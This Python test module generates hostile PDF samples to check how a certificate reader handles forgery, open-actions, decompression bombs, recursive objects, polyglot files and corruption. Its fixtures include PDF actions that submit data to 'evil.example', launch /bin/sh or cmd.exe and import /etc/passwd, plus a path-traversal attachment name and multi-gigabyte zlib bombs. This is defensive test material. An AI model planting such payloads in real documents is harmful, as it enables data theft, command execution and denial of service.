"""PDF files: what is attached and printed put together by others, scripts and actions, bombs, damage (row 25)."""

import io
import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.reading.hostile.pictures import cut, flipped
from tests.reading.hostile.row import (
    ALTERED,
    UNREADABLE,
    UNSUPPORTED,
    UNTRUSTED,
    Row,
    attack,
    control,
    desk,
    forged,
    forged_card,
    full,
    harmless,
    of_another,
    text,
)
from tests.reading.paper import QUALIFICATION_INDEX, STRANGER, archive, attach, draw, pdf, picture, to_json

Edit = Callable[[pikepdf.Pdf], object]


def certificate(*, printed: str | None = None, attached: bytes | None = None) -> bytes:
    """A certificate as the issuer makes it; with something else printed or attached, as a forger does."""
    return pdf([[printed or text()]], {"credential.json": attached or full()})


def edited(edit: Edit, data: bytes | None = None, **options: Any) -> bytes:
    """A PDF file, a certificate if none is given, after somebody changed its objects."""
    with pikepdf.open(io.BytesIO(data or certificate())) as document:
        edit(document)
        file = io.BytesIO()
        document.save(file, **options)
    return file.getvalue()


def acting(action: Mapping[str, Any]) -> bytes:
    """A certificate that wants to do something when it is opened."""
    return edited(lambda document: document.Root.update({"/OpenAction": Dictionary(action)}))


def boxed(*box: float) -> bytes:
    """A certificate whose first page says that it is of this size."""
    return edited(lambda document: document.pages[0].update({"/MediaBox": Array([*box])}))


def drawing(content: bytes, resources: Callable[[pikepdf.Pdf], Any] | None = None) -> bytes:
    """A PDF file of one page with this content."""

    def draw_it(document: pikepdf.Pdf) -> None:
        page = document.add_blank_page(page_size=(300, 300))
        page.Contents = document.make_stream(content)
        if resources:
            page.Resources = resources(document)

    document = pikepdf.new()
    draw_it(document)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def by_hand(*objects: bytes, root: int = 1, tail: bytes = b"") -> bytes:
    """A PDF file written as it is said, with a right table of its objects."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    trailer = b"trailer\n<</Size %d/Root %d 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, tail, len(data))
    return data + b"xref\n0 %d\n0000000000 65535 f \n%b%b" % (size, table, trailer)


def packed(data: bytes, times: int = 1, more: bytes = b"") -> bytes:
    """A stream of data that was packed so many times."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    filters = b" ".join([b"/FlateDecode"] * times)
    return b"<</Length %d/Filter[%b]%b>>stream\n%b\nendstream" % (len(data), filters, more, data)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"


def page_of(content: bytes, form: bytes = b"null") -> bytes:
    return by_hand(CATALOGUE, PAGES, PAGE, content, form)


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(content), more, content)


def attaching(content: bytes) -> bytes:
    """A PDF file of one blank page to which a stream is attached as it stands here."""
    names = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.json) 6 0 R]>>>>>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>"
    return by_hand(names, PAGES, page, b"null", content, b"<</Type/Filespec/F(a.json)/UF(a.json)/EF<</F 5 0 R>>>>")


def encrypted(user: str) -> bytes:
    return edited(lambda document: None, encryption=pikepdf.Encryption(owner="owner", user=user))


def later_revision(content: bytes) -> bytes:
    """Another attachment, in a revision appended to the file, as signed PDF files are forged."""
    before = attaching(stream(full()))
    table = before.rindex(b"xref\n0 ")
    place = len(before)
    after = b"5 0 obj\n%b\nendobj\n" % stream(content)
    after += b"xref\n5 1\n%010d 00000 n \n" % place
    after += b"trailer\n<</Size 7/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        table,
        place + after.index(b"xref\n5"),
    )
    return before + after


def people(*names: str, codes: int | None = None, swapped: bool = False) -> bytes:
    """A print sheet: a code of each person, and attached what each is certified for."""
    texts = [desk().text(desk().card(name=name, index=500 + n)) for n, name in enumerate(names)]
    fulls = [to_json(desk().full(name=name, index=500 + n)) for n, name in enumerate(names)]
    if swapped:
        fulls[0] = to_json(desk().full(name=names[1], index=500))
    return pdf([texts[:codes]], {f"{n}.json": data for n, data in enumerate(fulls)})


def portfolio(*units: int, bits: str = "u4A", **subject: Any) -> bytes:
    """A worker's certificate: a qualification card, and attached each of these units."""
    card = desk().card(kind="qualification-card", index=QUALIFICATION_INDEX)
    fulls = {f"{unit}.json": to_json(desk().full(unit=unit, index=600 + unit, **subject)) for unit in units}
    return pdf([[desk().text(card)]], fulls)


def _agreeing() -> Iterator[Row]:
    same, holder = "agreement:same", "agreement:holder-differs"
    other_name = lambda: desk().text(desk().card(name="Somebody Else"))  # noqa: E731
    yield control("certificate", certificate, same)
    yield control("short-name", lambda: certificate(printed=desk().text(desk().card(name="Ghulam R Khaskheli"))), same)
    yield control("print-sheet", lambda: people("Zainab Bibi", "Imran Ali", "Noor Jehan"), same)
    yield control("portfolio", lambda: portfolio(0), same)
    yield control("printed-only", lambda: pdf([[text()]]), "agreement:printed-only")
    yield control("attached-only", lambda: pdf([[]], {"a.json": full()}), "agreement:attached-only")
    yield control("code-on-the-last-of-20-pages", lambda: pdf([*[[]] * 19, [text()]], {"a.json": full()}), same)
    yield control("token-attached", lambda: certificate(attached=desk().issuer.token(_bare(full())).encode()), same)
    yield control("presented", lambda: certificate(attached=_presentation(full())), same)
    yield attack("another-holder-attached", lambda: certificate(attached=of_another()), ALTERED, holder)
    yield attack("another-holder-printed", lambda: certificate(printed=other_name()), ALTERED, holder)
    yield attack("another-holder-presented", lambda: certificate(attached=_presentation(of_another())), ALTERED, holder)
    yield attack(
        "another-unit",
        lambda: certificate(printed=desk().text(desk().card(unitCode="UNIT-MASTER"))),
        ALTERED,
        "agreement:competency-differs",
    )
    yield attack(
        "another-index",
        lambda: certificate(printed=desk().text(desk().card(index=4711))),
        ALTERED,
        "agreement:status-differs",
    )
    yield attack(
        "another-birth-year", lambda: certificate(printed=desk().text(desk().card(birthYear="1973"))), ALTERED, holder
    )
    yield attack(
        "two-attached-one-foreign",
        lambda: pdf([[text()]], {"a.json": full(), "b.json": of_another()}),
        ALTERED,
        holder,
    )
    yield attack("two-printed-one-foreign", lambda: pdf([[text(), other_name()]], {"a.json": full()}), ALTERED, holder)
    yield attack("sheet-with-a-code-less", lambda: people("Zainab Bibi", "Imran Ali", codes=1), ALTERED, holder)
    yield attack("sheet-with-people-swapped", lambda: people("Zainab Bibi", "Imran Ali", swapped=True), ALTERED)
    yield attack("portfolio-with-a-unit-more", lambda: portfolio(0, 63), ALTERED, "agreement:competency-differs")
    yield attack("portfolio-of-another", lambda: portfolio(0, name="Somebody Else"), ALTERED, holder)
    yield attack("forged-attached", lambda: certificate(attached=forged()), ALTERED)
    yield attack("forged-printed", lambda: certificate(printed=forged_card()), ALTERED)
    yield attack(
        "strangers-attached", lambda: certificate(attached=to_json(STRANGER.sign(STRANGER.draft()))), UNTRUSTED
    )
    yield attack("cut-off-attached", lambda: certificate(attached=full()[:900]), UNREADABLE)
    yield control("later-revision-of-the-same", lambda: later_revision(full()), "agreement:attached-only")
    yield attack("later-revision-forged", lambda: later_revision(forged()), ALTERED)
    yield control(
        "other-files-attached", lambda: attach(certificate(), {"photo.png": picture(draw("x")), "a.txt": b"a"})
    )
    yield control("pdf-in-pdf", lambda: attach(certificate(), {"inner.pdf": certificate(attached=of_another())}))
    yield control("zip-in-pdf", lambda: attach(certificate(), {"inner.zip": archive({"a.json": of_another()})}))


def _bare(data: bytes) -> dict[str, Any]:
    import json

    return {name: value for name, value in json.loads(data).items() if name != "proof"}


def _presentation(data: bytes) -> bytes:
    head = b'{"@context":["https://www.w3.org/ns/credentials/v2"],"type":["VerifiablePresentation"],'
    return head + b'"verifiableCredential":[' + data + b"]}"


def _acting() -> Iterator[Row]:
    script = String("app.alert('x'); this.submitForm('https://evil.example/');")
    actions: Mapping[str, Mapping[str, Any]] = {
        "script": {"/S": Name.JavaScript, "/JS": script},
        "launch": {"/S": Name.Launch, "/F": String("/bin/sh"), "/Win": Dictionary(F=String("cmd.exe"))},
        "address": {"/S": Name.URI, "/URI": String("https://evil.example/")},
        "form": {"/S": Name.SubmitForm, "/F": String("https://evil.example/"), "/Flags": 4},
        "other-file": {"/S": Name.GoToR, "/F": String("//evil.example/share"), "/D": Array([0, Name.Fit])},
        "import": {"/S": Name.ImportData, "/F": String("/etc/passwd")},
        "film": {"/S": Name.Rendition, "/OP": 0},
        "itself": {"/S": Name.GoTo, "/D": Array([0, Name.Fit])},
    }
    for name, action in actions.items():
        yield control(f"on-opening-{name}", lambda action=action: acting(action), "agreement:same")
    hostile = "x\x1b[31m\u202etxt.\u2066\nVALID"
    yield control("name-of-attachment", lambda: pdf([[text()]], {hostile: full()}))
    yield control("long-name-of-attachment", lambda: pdf([[text()]], {"n" * 5000: full()}))
    yield control("path-as-name", lambda: pdf([[text()]], {"../../../etc/passwd": full()}))
    yield control(
        "xfa-form", lambda: edited(lambda d: d.Root.update({"/AcroForm": Dictionary(XFA=d.make_stream(b"<x/>"))}))
    )
    yield control("owner-password-only", lambda: encrypted(""))
    yield attack("password", lambda: encrypted("secret"), UNSUPPORTED, "reading:encrypted")
    yield attack(
        "encryption-of-nobody",
        lambda: by_hand(CATALOGUE, PAGES, PAGE, stream(b""), tail=b"/Encrypt<</Filter/Evil/V 9>>"),
        {UNREADABLE, UNSUPPORTED},
    )


def _sizes() -> Iterator[Row]:
    boxes = {
        "of-a-kilometre": (0, 0, 2834645, 2834645),
        "of-no-size": (0, 0, 0, 0),
        "of-a-hair": (0, 0, 0.0001, 0.0001),
        "turned-over": (300, 300, 0, 0),
        "far-away": (1e9, 1e9, 1e9 + 300, 1e9 + 300),
        "without-end": (0, 0, 1e30, 1e30),
        "long-and-thin": (0, 0, 1e9, 1),
        "high-and-thin": (0, 0, 1, 1e9),
        "negative": (-1e9, -1e9, 1e9, 1e9),
    }
    for name, box in boxes.items():
        yield harmless(f"page-{name}", lambda box=box: boxed(*box))
    yield attack(
        "page-of-words", lambda: by_hand(CATALOGUE, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[(a) /b null nan]>>")
    )
    yield control("page-turned", lambda: edited(lambda d: d.pages[0].update({"/Rotate": 90})), "agreement:same")
    yield control(
        "page-twice-as-large", lambda: edited(lambda d: d.pages[0].update({"/UserUnit": 2})), "agreement:same"
    )
    yield control(
        "code-cut-away",
        lambda: edited(lambda d: d.pages[0].update({"/CropBox": Array([0, 0, 9, 9])})),
        "agreement:attached-only",
    )
    yield control("20-pages", lambda: pdf([[text()], *[[]] * 19], {"a.json": full()}), "agreement:same")
    yield attack("21-pages", lambda: pdf([[text()], *[[]] * 20]), UNREADABLE, "reading:too-many-pages")
    yield attack(
        "pages-without-end",
        lambda: by_hand(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", PAGE, stream(b"")),
    )
    yield attack(
        "pages-below-none", lambda: by_hand(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count -1>>", PAGE, stream(b""))
    )
    yield control("40-attachments", lambda: attach(pdf([[text()]]), {f"{n}.json": full() for n in range(40)}))
    yield attack(
        "41-attachments",
        lambda: attach(pdf([[text()]]), {f"{n}.txt": b"a" for n in range(41)}),
        UNREADABLE,
        "reading:too-many-attachments",
    )
    yield attack("10000-attachments", lambda: _many_attachments(10_000), UNREADABLE, "reading:too-many-attachments")
    yield attack(
        "101-codes",
        lambda: pdf([[f"https://a.example/{page}/{n}" for n in range(10)] for page in range(11)]),
        UNREADABLE,
        "reading:too-many-codes",
    )


def _many_attachments(number: int) -> bytes:
    spec = b"<</Type/Filespec/F(a)/UF(a)/EF<</F 4 0 R>>>>"
    names = b"".join(b"(%d) 5 0 R " % n for n in range(number))
    root = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[%b]>>>>>>" % names
    return by_hand(root, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", stream(full()), spec)


def _bombs() -> Iterator[Row]:
    zeros = bytes(60_000_000)
    yield attack("content-of-60-megabytes", lambda: page_of(packed(zeros)))
    yield attack("content-packed-twice", lambda: page_of(packed(zeros, 2)))
    yield attack("content-packed-nine-times", lambda: page_of(packed(zeros, 9)))
    yield attack("million-operators", lambda: page_of(packed(b"0 0 300 300 re f " * 1_000_000)))
    yield attack("deep-graphics-state", lambda: page_of(packed(b"q " * 1_000_000)))
    yield attack(
        "form-in-itself",
        lambda: page_of(
            stream(b"/X Do"),
            stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"),
        ),
    )
    yield attack(
        "forms-without-end",
        lambda: page_of(
            stream(b"/X Do " * 1000),
            stream(b"/X Do " * 1000, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"),
        ),
    )
    image = b"/Type/XObject/Subtype/Image/BitsPerComponent 8/ColorSpace/DeviceGray"
    yield attack(
        "image-of-900-megapixels",
        lambda: page_of(stream(b"300 0 0 300 0 0 cm /X Do"), packed(zeros, 1, image + b"/Width 30000/Height 30000")),
    )
    yield attack(
        "image-without-data",
        lambda: page_of(
            stream(b"300 0 0 300 0 0 cm /X Do"), stream(b"", image + b"/Width 2000000000/Height 2000000000")
        ),
    )
    yield attack(
        "image-drawn-10000-times",
        lambda: page_of(
            packed(b"q 300 0 0 300 0 0 cm /X Do Q " * 10_000),
            packed(bytes(4_000_000), 1, image + b"/Width 2000/Height 2000"),
        ),
    )
    yield attack("attachment-of-300-megabytes", lambda: attaching(packed(bytes(300_000_000))))
    yield attack("attachment-packed-twice", lambda: attaching(packed(bytes(300_000_000), 2)))
    yield control("attachment-packed-nine-times", lambda: attaching(packed(full(), 9)), "agreement:attached-only")
    yield attack("attachment-of-spaces", lambda: attaching(packed(b" " * 3_000_000 + full())))
    yield attack("arrays-in-arrays", lambda: by_hand(CATALOGUE, PAGES, b"[" * 100_000 + b"]" * 100_000))
    yield attack("dictionaries-in-dictionaries", lambda: by_hand(b"<</A" * 50_000 + b">>" * 50_000, PAGES))
    yield attack("pages-of-themselves", lambda: by_hand(CATALOGUE, b"<</Type/Pages/Kids[2 0 R 2 0 R 2 0 R]/Count 3>>"))
    yield attack(
        "page-as-its-own-parent",
        lambda: by_hand(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 3 0 R>>"),
    )
    yield attack("length-in-itself", lambda: page_of(b"<</Length 4 0 R>>stream\n0 0 m\nendstream"))
    yield attack("table-of-objects-in-itself", lambda: by_hand(CATALOGUE, PAGES, PAGE, stream(b""), tail=b"/Prev 9"))
    yield attack("root-of-nothing", lambda: by_hand(CATALOGUE, root=99))
    yield attack(
        "names-of-themselves",
        lambda: by_hand(
            b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R>>>>",
            PAGES,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
            b"<</Kids[4 0 R 4 0 R]>>",
        ),
    )
    yield attack("header-alone", lambda: b"%PDF-1.7\n")
    yield attack("header-and-rubbish", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 100)
    yield attack("empty-page", lambda: page_of(stream(b"")), UNREADABLE, "reading:nothing")


def _two_in_one() -> Iterator[Row]:
    blank = lambda: pdf([[]])  # noqa: E731
    yield attack("blank-then-zip", lambda: blank() + archive({"a.json": full()}))
    yield attack("blank-then-json", lambda: blank() + full())
    yield attack("blank-then-png", lambda: blank() + picture(draw(text())))
    yield attack("json-in-a-comment", lambda: blank().replace(b"\n", b"\n%" + full() + b"\n", 1))
    yield attack("something-before", lambda: b"GIF89a" + certificate())
    yield attack("html-before", lambda: b"<html><script>alert(1)</script>\n" + certificate())
    yield attack("json-before", lambda: full() + certificate())
    yield control("certificate-then-zip", lambda: certificate() + archive({"a.json": of_another()}), "agreement:same")
    yield control("certificate-then-json", lambda: certificate() + forged(), "agreement:same")


def _damaged() -> Iterator[Row]:
    for part in (0.001, 0.01, 0.1, 0.25, 0.5, 0.75, 0.9, 0.95, 0.99, 0.999):
        yield harmless(f"cut-{part}", lambda part=part: cut(certificate(), part), ALTERED, UNSUPPORTED)
    for seed in range(40):
        yield harmless(f"flipped-{seed}", lambda seed=seed: flipped(certificate(), seed), ALTERED, UNSUPPORTED)
    for seed in range(20):
        yield harmless(
            f"flipped-head-{seed}",
            lambda seed=seed: flipped(certificate()[:2000], seed) + certificate()[2000:],
            ALTERED,
            UNSUPPORTED,
        )


ROWS = (*_agreeing(), *_acting(), *_sizes(), *_bombs(), *_two_in_one(), *_damaged())
